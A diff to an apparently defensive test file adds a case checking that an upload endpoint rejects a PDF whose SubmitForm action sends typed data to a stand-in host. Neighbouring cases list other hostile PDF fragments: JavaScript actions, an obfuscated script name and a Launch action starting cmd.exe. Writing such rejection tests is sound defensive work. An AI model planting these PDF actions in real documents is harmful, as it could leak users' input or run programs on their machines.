@@ -145,6 +145,12 @@ describe('security 30 C7 what is refused, with a Dutch reason and without a CRM 
     ['a JPEG of half a million empty parts', splinters(), 415, 'unsupported_file'],
     ['a PDF with a script', pdfOf('<< /S /JavaScript /JS (app.alert\\(1\\)) >>'), 415, 'unsupported_file'],
     ['a PDF with a script by another spelling', pdfOf('<< /S /#4Aava#53cript >>'), 415, 'unsupported_file'],
+    [
+      'a PDF that sends what is typed in it',
+      pdfOf('<< /S /SubmitForm /F (https://x.example) >>'),
+      415,
+      'unsupported_file',
+    ],
     ['a PDF that starts a program', pdfOf('<< /S /Launch /F (cmd.exe) >>'), 415, 'unsupported_file'],
     ['a PDF with a file in it', pdfOf('<< /Type /EmbeddedFile >>'), 415, 'unsupported_file'],
     ['a PDF with a script in packed objects', packedPdf('2 0 << /S /JavaScript >>'), 415, 'unsupported_file'],
